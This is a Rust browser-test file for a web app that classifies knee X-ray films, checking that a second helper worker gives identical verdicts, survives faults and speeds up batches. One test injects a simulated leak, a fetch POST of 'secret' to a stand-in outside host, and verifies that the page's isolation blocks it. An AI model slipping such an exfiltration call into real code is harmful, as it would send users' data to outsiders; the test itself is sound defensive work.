//! The engine's helper: two knees, and films of a batch, on two workers are judged as on one, whatever befalls the second.

use super::engine::with_engine_prelude;
use super::*;

/// Before the program of every worker: what becomes of a helper is told to the page, and the engine's seconds pass quickly while
/// the page says so.
fn watched() -> String {
    format!(
        "const tell = new BroadcastChannel('helper'); \
         const later = self.setTimeout.bind(self); let isQuick = false; \
         new BroadcastChannel('clock').onmessage = ({{data}}) => {{ isQuick = data === 'quick' }}; \
         self.setTimeout = (then, ms) => later(then, isQuick && ms === 1000 ? 10 : ms); \
         if (self.name.endsWith('#helper')) {{ const post = self.postMessage.bind(self); \
         self.postMessage = (message, moved) => {{ if (message?.[0]?.[0] === {}) tell.postMessage('ready'); post(message, moved) }} }} \
         else {{ self.Worker = class extends Worker {{ \
         constructor(...all) {{ super(...all); tell.postMessage('started') }} \
         postMessage(message, ...all) {{ if (message[0]?.[0] === {}) tell.postMessage('passes'); super.postMessage(message, ...all) }} \
         terminate() {{ tell.postMessage('ended'); super.terminate() }} }} }}",
        kinds::answer("Ready"),
        kinds::errand("Pass")
    )
}

/// The page's side of it; and every state of the engine from now on.
const LISTEN: &str = "window.helper = { started: 0, ready: 0, passes: 0, ended: 0 }; \
     (window.channel = new BroadcastChannel('helper')).onmessage = ({data}) => window.helper[data]++; window.engines = new Set(); \
     new MutationObserver(() => window.engines.add(document.documentElement.dataset.engine)) \
     .observe(document, {attributes: true, subtree: true, attributeFilter: ['data-engine']});";

/// A device with one processor, for page and workers.
const ONE: &str = "Object.defineProperty(navigator, 'hardwareConcurrency', {value: 1});";

/// Everything that is said of the film that is looked at, and its heat map.
fn said(visit: &Visit, file: &Path) -> Result<String> {
    const MAP: &str = "document.querySelector('canvas[data-role=heatmap]')";
    visit.wait_for_verdict(file)?;
    visit.wait(&format!(
        "{MAP}.dataset.class && {MAP}.getContext('2d').getImageData(0, 0, {MAP}.width, {MAP}.height).data.some(v => v)"
    ))?;
    visit.unfold()?;
    visit.text(&format!(
        "[...document.querySelectorAll('[data-role=probability]')].map(one => Object.values(one.dataset).join(' ')).join() \
         + {MAP}.toDataURL()"
    ))
}

/// The same film under another name.
fn pair_called(name: &str) -> Result<PathBuf> {
    let path = files::scratch().join(name);
    fs::copy(files::pair()?, &path)?;
    Ok(path)
}

/// A visit on a device with one processor.
fn on_one(site: &Path, query: &str) -> Result<Visit> {
    let copy = with_engine_prelude(site, "one-processor", ONE)?;
    let visit = Visit::open_with_script(&copy, query, &format!("{ONE} {LISTEN}"))?;
    visit.wait_for_engine("cpu")?;
    Ok(visit)
}

/// A visit on this device, with a script before the engine's program.
fn on_two(site: &Path, name: &str, query: &str, more: &str) -> Result<Visit> {
    ensure!(std::thread::available_parallelism()?.get() > 1, "with one processor there is no helper");
    let copy = with_engine_prelude(site, name, &format!("{}; {more}", watched()))?;
    let visit = Visit::open_with_script(&copy, query, LISTEN)?;
    visit.wait_for_engine("cpu")?;
    Ok(visit)
}

#[test]
fn two_knees_on_two_workers_are_judged_as_on_one_and_the_second_goes_after() {
    with_site_alone(|site| {
        let (first, second) = (files::pair()?, pair_called("pair-again.png")?);
        let alone = on_one(site, "?backend=cpu")?;
        alone.upload(&[&first])?;
        let right = said(&alone, &first)?;
        ensure!(alone.number("window.helper.started")? == 0.0, "one processor has a helper");
        drop(alone);
        let visit = on_two(site, "two-workers", "?backend=cpu", "")?;
        judge_a_sample(&visit)?;
        ensure!(visit.number("window.helper.started")? == 0.0, "a helper is started for a single knee");
        // The first one is what it is started for: the engine judges it meanwhile.
        visit.upload(&[&first])?;
        ensure!(said(&visit, &first)? == right, "another answer while the helper loads");
        visit.wait("window.helper.ready === 1")?;
        visit.upload(&[&second])?;
        ensure!(said(&visit, &second)? == right, "another answer on two workers");
        // Two models see one knee there.
        visit.wait("window.helper.passes === 2")?;
        let set_clock = |speed: &str| visit.text(&format!("new BroadcastChannel('clock').postMessage('{speed}'), ''"));
        set_clock("quick")?;
        visit.wait("window.helper.ended === 1")?;
        set_clock("usual")?;
        // It comes back when it is wanted.
        visit.upload(&[&first])?;
        visit.wait("window.helper.ready === 2")?;
        let engines = visit.text("[...engines].join()")?;
        ensure!(!engines.contains("failed"), "{engines}");
        Ok(())
    });
}

#[test]
fn films_of_a_batch_on_two_workers_are_judged_as_on_one() {
    const ROWS: &str = "[...document.querySelectorAll('[data-role=batch] tbody tr')]";
    with_site_alone(|site| {
        let films = files::many(24)?;
        let films: Vec<&Path> = films.iter().map(PathBuf::as_path).collect();
        let judge = |visit: &Visit| -> Result<String> {
            visit.upload(&films)?;
            visit.wait(&format!("{ROWS}.length === 24 && !{ROWS}.some(row => row.dataset.state === 'working')"))?;
            visit.text(&format!("{ROWS}.map(row => row.dataset.state + row.innerText).join()"))
        };
        let right = judge(&on_one(site, "?backend=cpu")?)?;
        let visit = on_two(site, "batch-on-two", "?backend=cpu", "")?;
        let rows = judge(&visit)?;
        ensure!(rows == right, "{rows} instead of {right}");
        let passes = visit.number("window.helper.passes")?;
        println!("{passes} passes of 24 films were made by the helper");
        ensure!(passes > 0.0, "the helper had nothing to do");
        Ok(())
    });
}

#[test]
fn a_helper_that_fails_leaves_its_work_to_the_engine() {
    with_site_alone(|site| {
        let (first, second) = (files::pair()?, pair_called("pair-without-helper.png")?);
        let right = {
            let alone = on_one(site, SMALL)?;
            alone.upload(&[&first])?;
            said(&alone, &first)?
        };
        let on_pass = |does: &str| {
            let is_pass = format!("data[0]?.[0] === {}", kinds::errand("Pass"));
            format!(
                "if (self.name.endsWith('#helper')) addEventListener('message', ({{data}}) => {{ if ({is_pass}) {{ {does} }} }})"
            )
        };
        for (name, fault, begins) in [
            ("no-nested-workers", "self.Worker = undefined".to_owned(), false),
            ("helper-ends-early", "if (self.name.endsWith('#helper')) throw new Error('gone')".to_owned(), false),
            ("helper-ends", on_pass("self.close(); throw new Error('gone')"), true),
            ("helper-silent", on_pass("data[0] = ''"), true),
        ] {
            let visit = on_two(site, name, &format!("{SMALL}&patience=15"), &fault)?;
            visit.upload(&[&first])?;
            ensure!(said(&visit, &first)? == right, "{name}: another answer before the fault");
            if begins {
                visit.wait("window.helper.ready === 1")?;
            }
            visit.text("(window.engines.clear(), 'watched')")?;
            visit.upload(&[&second])?;
            ensure!(said(&visit, &second)? == right, "{name}: another answer after the fault");
            visit.wait(&format!("window.helper.passes === {}", u8::from(begins)))?;
            // There is no other, and the engine itself was never in doubt.
            visit.upload(&[&first])?;
            visit.wait("performance.getEntriesByName('grad-cam').length === 3")?;
            ensure!(visit.number("window.helper.started")? <= 1.0, "{name}: it is started again and again");
            let engines = visit.text("[...engines].join()")?;
            ensure!(engines.is_empty(), "{name}: the engine became {engines}");
        }
        Ok(())
    });
}

#[test]
fn the_helper_cannot_reach_elsewhere() {
    with_site(|site| {
        let leak = "if (self.name.endsWith('#helper')) { \
             await fetch('http://elsewhere.example/secret', {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => {}); \
             await fetch(self.name.split('#')[0] + 'icon.svg?tried') }";
        let visit = on_two(site, "leaking-helper", SMALL, leak)?;
        visit.upload(&[&files::pair()?])?;
        let tried = |part: &str| visit.asked().iter().any(|one| one.address.contains(part));
        let begun = std::time::Instant::now();
        while !tried("icon.svg?tried") {
            ensure!(begun.elapsed() < visit::PATIENCE, "the helper did not try");
            visit.wait("true")?;
        }
        ensure!(!tried("elsewhere.example"), "the helper reached elsewhere");
        Ok(())
    });
}

fn median(mut values: Vec<f64>) -> f64 {
    values.sort_by(f64::total_cmp);
    values[values.len() / 2]
}

/// From each film's file to its verdict, one film after the other, and the browser's memory.
fn one_by_one(visit: &Visit, film: &Path, name: &str) -> Result<(Vec<f64>, f64)> {
    const FILMS: usize = 12;
    let extension = film.extension().and_then(|extension| extension.to_str()).unwrap_or_default();
    let begun = visit.number("performance.getEntriesByName('grad-cam').length")?;
    let mut all = Vec::new();
    for at in 1..=FILMS {
        let path = files::scratch().join(format!("{name}-{at}.{extension}"));
        fs::copy(film, &path)?;
        visit.upload(&[&path])?;
        visit.wait(&format!("performance.getEntriesByName('grad-cam').length === {}", begun + at as f64))?;
        all.push(visit.number("performance.getEntriesByName('total').at(-1).duration")?);
    }
    Ok((all, visit.renderers_mb()))
}

#[test]
#[ignore = "a measurement, of minutes: docs/decisions/0007-many-files.md"]
fn two_knees_are_timed_on_one_and_on_two_workers() {
    const ROUNDS: usize = 3;
    with_site_alone(|site| {
        let mut kinds = vec![("the sample twice", files::pair()?)];
        kinds
            .extend(files::films().into_iter().find(|film| film.ends_with("N6.jpg")).map(|film| ("a real film", film)));
        for (name, film) in kinds {
            let (mut on_one_ms, mut on_two_ms) = (Vec::new(), Vec::new());
            let (mut on_one_mb, mut on_two_mb) = (Vec::new(), Vec::new());
            for _ in 0..ROUNDS {
                let visit = on_one(site, "?backend=cpu")?;
                visit.upload(&[&film])?;
                visit.wait("performance.getEntriesByName('grad-cam').length === 1")?;
                let (times, memory_mb) = one_by_one(&visit, &film, "one")?;
                on_one_ms.extend(times);
                on_one_mb.push(memory_mb);
                drop(visit);
                let visit = on_two(site, "measured-on-two", "?backend=cpu", "")?;
                visit.upload(&[&film])?;
                visit.wait("performance.getEntriesByName('grad-cam').length === 1 && window.helper.ready === 1")?;
                let (times, memory_mb) = one_by_one(&visit, &film, "two")?;
                on_two_ms.extend(times);
                on_two_mb.push(memory_mb);
            }
            let (one, two) = (median(on_one_ms), median(on_two_ms));
            let (one_mb, two_mb) = (median(on_one_mb), median(on_two_mb));
            let ratio = two / one;
            println!("{name}: {one:.0} ms, {two:.0} ms on two workers: {ratio:.2}; {one_mb:.0} MB, {two_mb:.0} MB");
        }
        Ok(())
    });
}

#[test]
#[ignore = "a measurement, of minutes: docs/decisions/0007-many-files.md"]
fn two_hundred_files_are_timed_on_one_and_on_two_workers() {
    const FILMS: usize = 200;
    const ROUNDS: usize = 3;
    const DONE: &str = "document.querySelectorAll('[data-role=batch] tbody tr:not([data-state=working])').length";
    with_site_alone(|site| {
        let films = files::many(FILMS)?;
        let paths: Vec<&Path> = films.iter().map(PathBuf::as_path).collect();
        let judge = |visit: &Visit| -> Result<f64> {
            visit.click("#notice .primary")?;
            judge_a_sample(visit)?;
            let begun = std::time::Instant::now();
            visit.upload(&paths)?;
            visit.wait(&format!("{DONE} === {FILMS} + 1"))?;
            Ok(begun.elapsed().as_secs_f64() * 1e3 / FILMS as f64)
        };
        let (mut one, mut two) = (Vec::new(), Vec::new());
        for _ in 0..ROUNDS {
            let visit = on_one(site, "?backend=cpu")?;
            one.push(judge(&visit)?);
            println!("one worker: {:.0?} ms a film, {:.0} MB", one.last(), visit.renderers_peak_mb());
            drop(visit);
            let visit = on_two(site, "measured-batch-on-two", "?backend=cpu", "")?;
            two.push(judge(&visit)?);
            let passes = visit.number("window.helper.passes")?;
            println!("two: {:.0?} ms a film, {:.0} MB, {passes} passes", two.last(), visit.renderers_peak_mb());
        }
        let (one, two) = (median(one), median(two));
        println!("{one:.0} ms a film, {two:.0} ms on two workers: {:.2} times the rate", one / two);
        Ok(())
    });
}
